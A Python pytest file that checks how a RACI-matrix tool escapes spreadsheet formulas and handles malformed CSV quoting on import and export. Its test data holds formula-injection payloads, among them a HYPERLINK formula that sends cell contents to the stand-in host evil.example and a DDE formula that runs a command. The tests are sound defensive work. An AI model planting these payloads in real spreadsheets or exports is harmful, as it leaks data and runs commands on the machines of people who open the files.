"""CSV files as an attacker or a careless editor writes them: formulas, stray quotes, cells across lines."""

from __future__ import annotations

import csv
import io

import pytest

from bot.raci_file.csv_formula import escape_cell, unescape_cell
from bot.raci_file.csv_io import dump_csv, load_csv
from bot.raci_file.model import Activity, RaciDocument, Role
from tests.raci_file.helpers import brief

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A3,"Ops")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@risk review",
]
ROLES = [Role("ops", FORMULAS[0]), Role("de", "Data Engineer")]


def _cells(text: str) -> list[list[str]]:
    """The cells a spreadsheet sees when it opens `text`."""
    return list(csv.reader(io.StringIO(text, newline="")))


def _doc(names: list[str]) -> RaciDocument:
    return RaciDocument(roles=ROLES, activities=[Activity(name, raci={"R": ["ops"], "A": ["de"]}) for name in names])


def test_export_quotes_every_cell_a_spreadsheet_would_run() -> None:
    text = dump_csv(_doc(FORMULAS[1:]))
    cells = [cell for row in _cells(text) for cell in row if cell]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
    assert _cells(text)[0] == ["Activity", "'" + FORMULAS[0], "Data Engineer"]
    assert [row[0] for row in _cells(text)[1:]] == ["'" + name for name in FORMULAS[1:]]


@pytest.mark.parametrize("names", [FORMULAS[1:], ["'Tis the season", "'=already quoted", "''", "'", "O'Brien review"]])
def test_export_import_export_is_a_fixed_point_and_names_are_unchanged(names: list[str]) -> None:
    first = dump_csv(_doc(names))
    matrix, findings = load_csv(first, source="export.csv", roles=ROLES)
    assert findings == [] and matrix.new_roles == []
    assert [activity.name for activity in matrix.activities] == names
    assert dump_csv(RaciDocument(roles=ROLES, activities=matrix.activities)) == first


def test_a_hand_written_leading_quote_is_kept() -> None:
    matrix, findings = load_csv("Activity,Data Engineer\n'Tis the season,R/A\n", source="m.csv", roles=ROLES)
    assert findings == [] and [a.name for a in matrix.activities] == ["'Tis the season"]


def test_a_quoted_header_finds_its_role_and_person_columns() -> None:
    text = "Activity,'@ivan,'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A3,\"\"Ops\"\")\nX,R,A\n"
    text = text.replace("'=HYPERLINK", '"\'=HYPERLINK').replace('Ops"")\n', 'Ops"")"\n')
    matrix, findings = load_csv(text, source="m.csv", roles=ROLES)
    assert findings == []
    assert matrix.columns == ["@ivan", "ops"]


@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'", "''", "'x", "\t", "\r=", "-", "plain"])
def test_escape_then_unescape_is_the_identity(text: str) -> None:
    assert unescape_cell(escape_cell(text)) == text


STRAY_QUOTE = """\
Activity,Data Engineer,ops
Define business problem,R/A,C
Data exploration,R/A,C
"Feature engineering,R,A
Model training code,R,A
Unit tests for model,R,A
CI/CD pipeline,R,A
Docker packaging,R,A
K8s deployment,R,A
Monitoring setup,R,A
Data pipeline,R,A
Feature store mgmt,R,A
"""


def test_an_unterminated_quote_is_refused_at_the_line_it_opens() -> None:
    matrix, findings = load_csv(STRAY_QUOTE, source="m.csv", roles=ROLES)
    assert brief(findings) == [("error", "file", 4)]
    assert "not closed" in findings[0].message and "span lines" in findings[0].message
    assert len(matrix.activities) == 10  # the rest of the file was not swallowed into one cell


def test_a_cell_spanning_lines_is_refused_at_the_line_it_opens() -> None:
    text = 'Activity,Data Engineer\nX,R/A\n"Two\nlines",R/A\nY,R/A\n'
    matrix, findings = load_csv(text, source="m.csv", roles=ROLES)
    assert [(f.kind, f.line) for f in findings] == [("error", 3)]
    assert "Y" in [a.name for a in matrix.activities]


def test_text_after_a_closing_quote_is_refused_with_its_line() -> None:
    _, findings = load_csv('Activity,Data Engineer\n"X"y,R/A\n', source="m.csv", roles=ROLES)
    assert [(f.kind, f.line) for f in findings] == [("error", 2)]
    assert "quoting" in findings[0].message and str(findings[0]).startswith("m.csv:2: error:")


def test_a_doubled_quote_inside_a_quoted_cell_is_fine() -> None:
    matrix, findings = load_csv('Activity,Data Engineer\n"The ""big"" one",R/A\n', source="m.csv", roles=ROLES)
    assert findings == [] and [a.name for a in matrix.activities] == ['The "big" one']


def test_a_role_name_full_of_semicolons_does_not_change_the_delimiter() -> None:
    roles = [Role("rd", "R&D; Ops; Infra; Sec"), Role("de", "Data Engineer")]
    doc = RaciDocument(roles=roles, activities=[Activity("Build; ship", raci={"R": ["rd"], "A": ["de"]})])
    text = dump_csv(doc)
    assert text.splitlines()[0] == 'Activity,"R&D; Ops; Infra; Sec",Data Engineer'
    matrix, findings = load_csv(text, source="export.csv", roles=roles)
    assert findings == [] and matrix.activities[0].raci == {"R": ["rd"], "A": ["de"]}


def test_a_role_named_like_a_person_column_is_exported_by_its_key() -> None:
    roles = [Role("ops", "@oncall")]
    text = dump_csv(RaciDocument(roles=roles, activities=[Activity("Pager", raci={"R": ["ops"], "A": ["ops"]})]))
    assert text.splitlines()[0] == "Activity,ops"
    matrix, findings = load_csv(text, source="export.csv", roles=roles)
    assert findings == [] and matrix.columns == ["ops"]
